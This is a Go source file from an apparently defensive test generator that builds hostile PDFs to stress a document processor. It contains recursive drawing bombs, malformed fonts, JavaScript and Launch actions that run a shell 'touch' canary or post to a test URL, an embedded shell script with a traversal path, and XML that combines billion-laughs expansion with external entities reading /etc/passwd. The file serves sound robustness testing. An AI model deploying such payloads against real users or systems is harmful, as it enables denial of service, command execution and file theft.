package torture

import (
	"fmt"
	"strings"
)

// pdfDrawing makes PDF whose pages draw themselves, or never end drawing.
func (m *maker) pdfDrawing() {
	const family = "PDF: drawing"
	form := "<</Type/XObject/Subtype/Form/BBox[0 0 300 300]"
	stream := func(dict, content string) string {
		return fmt.Sprintf("%s/Length %d>>stream\n%s\nendstream", dict, len(content), content)
	}
	m.add(family, "form draws itself", drawn("/XObject<</X 3 0 R>>", "/X Do", stream(form+"/Resources<</XObject<</X 3 0 R>>>>", "/X Do /X Do")))
	m.add(family, "two forms draw each other", drawn("/XObject<</X 3 0 R>>", "/X Do",
		stream(form+"/Resources<</XObject<</X 4 0 R>>>>", "/X Do"), stream(form+"/Resources<</XObject<</X 3 0 R>>>>", "/X Do")))
	chain := []string{}
	for i := range 2000 {
		chain = append(chain, stream(fmt.Sprintf("%s/Resources<</XObject<</X %d 0 R>>>>", form, i+4), "/X Do"))
	}
	m.add(family, "forms 2,000 deep", drawn("/XObject<</X 3 0 R>>", "/X Do", append(chain, stream(form, "0 0 9 9 re f"))...))
	bomb := []string{stream(form, "0 0 500 500 re f 100 100 m 300 700 l S")}
	for i := range 12 {
		bomb = append(bomb, stream(fmt.Sprintf("%s/Resources<</XObject<</X %d 0 R>>>>", form, i+3), strings.Repeat("/X Do ", 10)))
	}
	m.heavy(family, "forms ten to the twelfth", func() []byte { return drawn(fmt.Sprintf("/XObject<</X %d 0 R>>", len(bomb)+2), "/X Do", bomb...) }, "timeout", "crashed", Ready)
	tile := "<</Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]"
	fill := "/Pattern cs /P scn 0 0 298 210 re f"
	m.add(family, "pattern fills with itself", drawn("/Pattern<</P 3 0 R>>", fill, stream(tile+"/XStep 9/YStep 9/Resources<</Pattern<</P 3 0 R>>>>", fill)))
	m.heavy(family, "pattern of tiny steps", func() []byte {
		return drawn("/Pattern<</P 3 0 R>>", fill, stream(tile+"/XStep .00001/YStep .00001/Resources<<>>", "0 0 5 5 re f"))
	})
	m.add(family, "pattern of no steps", drawn("/Pattern<</P 3 0 R>>", fill, stream(tile+"/XStep 0/YStep 0/Resources<<>>", "0 0 5 5 re f")))
	m.heavy(family, "group is its own mask", func() []byte {
		return drawn("/ExtGState<</G 3 0 R>>/XObject<</X 4 0 R>>", "/G gs /X Do",
			"<</SMask<</S/Luminosity/G 4 0 R>>>>", stream(form+"/Group<</S/Transparency>>/Resources<</ExtGState<</G 3 0 R>>/XObject<</X 4 0 R>>>>", "/G gs /X Do"))
	})
	m.add(family, "function of itself", drawn("/Shading<</S<</ShadingType 2/ColorSpace/DeviceRGB/Coords[0 0 1 1]/Function 3 0 R>>>>", "/S sh",
		"<</FunctionType 3/Domain[0 1]/Functions[3 0 R 3 0 R]/Bounds[.5]/Encode[0 1 0 1]>>"))
	m.add(family, "function of 30 inputs", drawn("/Shading<</S<</ShadingType 1/ColorSpace/DeviceGray/Function 3 0 R>>>>", "/S sh",
		stream("<</FunctionType 0/Domain["+strings.Repeat("0 1 ", 30)+"]/Range[0 1]/Size["+strings.Repeat("9 ", 30)+"]/BitsPerSample 8", "x")))
	m.add(family, "calculator 10,000 deep", drawn("/Shading<</S<</ShadingType 1/ColorSpace/DeviceGray/Function 3 0 R>>>>", "/S sh",
		stream("<</FunctionType 4/Domain[0 1 0 1]/Range[0 1]", deep("{", "pop 0", "} if", 10_000))))
	for kind := range 9 {
		m.add(family, fmt.Sprintf("shading %d of noise", kind), drawn("/Shading<</S 3 0 R>>", "/S sh", stream(fmt.Sprintf(
			"<</ShadingType %d/ColorSpace/DeviceRGB/BitsPerCoordinate 32/BitsPerComponent 16/BitsPerFlag 8/VerticesPerRow 2/Decode[0 300 0 300 0 1 0 1 0 1]/Coords[0 0 0 1e9 1e9 1e9]/Extend[true true]", kind), string(m.noise(30_000))))).Heavy = kind == 4 || kind == 5
	}
	for label, content := range inOrder(map[string]string{
		"200,000 states kept": strings.Repeat("q ", 200_000), "200,000 states given back": strings.Repeat("Q ", 200_000),
		"100,000 clips": strings.Repeat("0 0 100 100 re W n ", 100_000), "dashes of nothing": "[0 0] 0 d 0 0 m 298 210 l S",
		"dashes too fine": "[.0000001 .0000001] 0 d 9 w 0 0 m 1e9 1e9 l S", "a line as wide as the world": "1e30 w 0 0 m 9 9 l S",
		"matrices of nothing": "0 0 0 0 0 0 cm BT /F 9 Tf (x) Tj ET", "matrices without end": strings.Repeat("9 0 0 9 0 0 cm ", 1000) + "0 0 1 1 re f",
		"a million letters": "BT /F 9 Tf (" + strings.Repeat("Wort ", 200_000) + ") Tj ET", "a text of a thousand lines on one": "BT /F 1 Tf " + strings.Repeat("(Bescheid vom Mai) Tj ", 10_000) + " ET",
		"font of no size": "BT /F 0 Tf (x) Tj ET", "font of all sizes": "BT /F 1e30 Tf (x) Tj ET", "inline picture without end": "BI /W 100 /H 100 /BPC 8 /CS /G ID " + string(m.noise(50)),
		"inline picture of 2³¹ pixels": "BI /W 2147483647 /H 2147483647 /BPC 8 /CS /RGB ID xx EI", "unknown words": strings.Repeat("foo bar baz ", 50_000),
		"brackets": strings.Repeat("[", 100_000), "marked content": strings.Repeat("/A BMC ", 100_000), "numbers only": strings.Repeat("1 ", 300_000),
	}) {
		m.add(family, label, drawn("", content)).Heavy = label == "marked content" || strings.HasPrefix(label, "inline picture of")
	}
	m.pdfFonts(stream)
}

// pdfFonts are fonts that are none.
func (m *maker) pdfFonts(stream func(dict, content string) string) {
	const family = "PDF: fonts"
	say := "BT /X 12 Tf 20 100 Td (Sehr geehrte Damen und Herren, der Antrag wird bewilligt. Das ist der Bescheid.) Tj ET"
	m.add(family, "glyph draws itself", drawn("/Font<</X 3 0 R>>", say,
		"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[.1 0 0 .1 0 0]/CharProcs<</S 4 0 R>>/Encoding<</Differences[32/S"+strings.Repeat("/S", 90)+"]>>/FirstChar 32/LastChar 122/Widths["+strings.Repeat("9 ", 91)+"]/Resources<</Font<</X 3 0 R>>>>>>",
		stream("<<", "9 0 d0 BT /X 1 Tf (SSS) Tj ET")))
	for label, font := range inOrder(map[string]string{
		"no encoding": "/Subtype/TrueType/BaseFont/Nobody", "no subtype": "/BaseFont/Nobody", "descendant is itself": "/Subtype/Type0/BaseFont/N/Encoding/Identity-H/DescendantFonts[3 0 R]",
		"encoding is itself": "/Subtype/Type1/BaseFont/Helvetica/Encoding 3 0 R", "cmap uses itself": "/Subtype/Type0/BaseFont/N/Encoding 4 0 R/DescendantFonts[<</Type/Font/Subtype/CIDFontType2/BaseFont/N/CIDSystemInfo<</Registry(A)/Ordering(B)/Supplement 0>>>>]",
		"unicode of noise": "/Subtype/Type1/BaseFont/Helvetica/ToUnicode 4 0 R", "widths without end": "/Subtype/Type1/BaseFont/Helvetica/FirstChar -2147483648/LastChar 2147483647/Widths[1]",
	}) {
		m.add(family, label, drawn("/Font<</X 3 0 R>>", say, "<</Type/Font"+font+">>", stream("<</Type/CMap/CMapName/N/UseCMap 4 0 R", string(m.noise(3000))))).Heavy = strings.HasPrefix(label, "cmap")
	}
	cmap := "begincmap 1 begincodespacerange <00> <ffffffff> endcodespacerange 100 beginbfrange <00000000> <ffffffff> <0041> endbfrange 1 begincidrange <00000000> <ffffffff> 0 endcidrange endcmap"
	m.add(family, "unicode of four billion", drawn("/Font<</X 3 0 R>>", say, "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 4 0 R>>", stream("<<", cmap)))
	m.heavy(family, "unicode is a bomb", func() []byte {
		return drawn("/Font<</X 3 0 R>>", say, "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 4 0 R>>", stream("<</Filter/FlateDecode", string(repeated('<', 500*mib))))
	})
	heads := map[string]string{"FontFile": "%!PS-AdobeFont-1.0: N\n/Encoding 256 array\ncurrentfile eexec\n", "FontFile2": "\x00\x01\x00\x00\xff\xff\x00\x10\x00\x00\x00\x00", "FontFile3/Subtype/Type1C": "\x01\x00\x04\x04\xff\xff\x01"}
	for file, head := range inOrder(heads) {
		name, sub, _ := strings.Cut(file, "/")
		if sub != "" {
			sub = "/" + sub
		}
		for i := range 4 {
			m.add(family, fmt.Sprintf("%s of noise %d", name, i), drawn("/Font<</X 3 0 R>>", say,
				"<</Type/Font/Subtype/TrueType/BaseFont/N/FirstChar 32/LastChar 33/Widths[500 500]/FontDescriptor 4 0 R>>",
				"<</Type/FontDescriptor/FontName/N/Flags 4/FontBBox[0 0 1000 1000]/"+name+" 5 0 R>>", stream("<<"+sub+"/Length1 9000", head+string(m.noise(2000*(i+1))))))
		}
	}
}

// pdfActive makes PDF that want something done: fetched, run, sent, shown.
func (m *maker) pdfActive() {
	const family = "active: PDF"
	line := "Sehr geehrte Damen und Herren, der Antrag wird bewilligt."
	u, run := m.URL, "touch "+m.Canary
	for label, action := range inOrder(map[string]string{
		"JavaScript": "/S/JavaScript/JS(app.launchURL\\('" + u + "js'\\);this.submitForm\\('" + u + "'\\);)", "launch": "/S/Launch/F(/bin/sh)/Unix<</F(/bin/sh)/P(-c '" + run + "')>>/Win<</F(cmd.exe)/P(/c " + run + ")>>",
		"URI": "/S/URI/URI(" + u + "uri)", "submit": "/S/SubmitForm/F<</FS/URL/F(" + u + "submit)>>/Flags 4", "go to another": "/S/GoToR/F<</FS/URL/F(" + u + "other.pdf)>>/D[0/Fit]",
		"import": "/S/ImportData/F(" + u + "data.fdf)", "sound": "/S/Sound/Sound<</F<</FS/URL/F(" + u + "a.wav)>>/R 8000>>", "movie": "/S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D<</FS/URL/F(" + u + "m.mpg)>>>>>>",
		"chain without end": "/S/URI/URI(" + u + ")/Next 1 0 R", "named": "/S/Named/N/Print",
	}) {
		var p, q pdf
		p.text("", line)
		p.catalog = "/OpenAction<<" + action + ">>/AA<</WC<<" + action + ">>/DP<<" + action + ">>>>"
		m.add(family, label, p.bytes())
		q.text("/AA<</O<<"+action+">>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 298 210]/A<<"+action+">>>><</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/AA<</PO<<"+action+">>>>>>]", line)
		m.add(family, label+" of the page", q.bytes())
	}
	external := "/F<</Type/Filespec/FS/URL/F(" + u + "stream)>>/FFilter/FlateDecode"
	xfa := `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">xfa.host.gotoURL("` + u + `xfa")</script></event></subform></template></xdp:xdp>`
	laughs := entities("x:xmpmeta", u)
	for label, f := range inOrder(map[string]func(p *pdf){
		"content of elsewhere": func(p *pdf) { p.pageOf("", fmt.Sprintf("%d 0 R", p.stream(external, nil))) },
		"picture of elsewhere": func(p *pdf) {
			p.image("/Width 640/Height 200/ColorSpace/DeviceGray/BitsPerComponent 8"+external, nil)
		},
		"XFA": func(p *pdf) {
			p.catalog = fmt.Sprintf("/NeedsRendering true/AcroForm<</XFA %d 0 R/Fields[]>>", p.stream("", []byte(xfa)))
		},
		"page of elsewhere": func(p *pdf) {
			p.catalog = "/Names<</Templates<</Names[(x)<</F(" + u + "t.pdf)>>]>>>>"
			p.add("<</Type/XObject/Subtype/Form/Ref<</F(" + u + "ref.pdf)/Page 0>>>>")
		},
		"embedded programs": func(p *pdf) {
			n := p.stream("/Type/EmbeddedFile/Subtype/application#2Fx-msdownload", []byte("#!/bin/sh\n"+run+"\n"))
			p.catalog = fmt.Sprintf("/Names<</EmbeddedFiles<</Names[(a.sh)<</Type/Filespec/F(../../a.sh)/EF<</F %d 0 R>>>>]>>>>/Collection<</View/T>>", n)
		},
		"XMP that laughs": func(p *pdf) {
			p.catalog = fmt.Sprintf("/Metadata %d 0 R", p.stream("/Type/Metadata/Subtype/XML", []byte(laughs)))
		},
		"rich media": func(p *pdf) {
			p.text("/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 99 99]/RichMediaContent<</Assets<</Names[(a.swf)<</F("+u+"a.swf)>>]>>>>>>]", line)
		},
	}) {
		var p pdf
		p.text("", line)
		f(&p)
		m.add(family, label, p.bytes())
	}
}

// entities is XML that grows a billion times, and asks for files and addresses.
func entities(root, url string) string {
	s := `<?xml version="1.0"?><!DOCTYPE ` + root + ` [<!ENTITY a0 "haha"><!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY far SYSTEM "` + url + `entity"><!ENTITY % all SYSTEM "` + url + `dtd">%all;`
	for i := range 10 {
		s += fmt.Sprintf(`<!ENTITY a%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&a%d;", i), 10))
	}
	return s + "]><" + root + ">&a10;&file;&far;</" + root + ">"
}
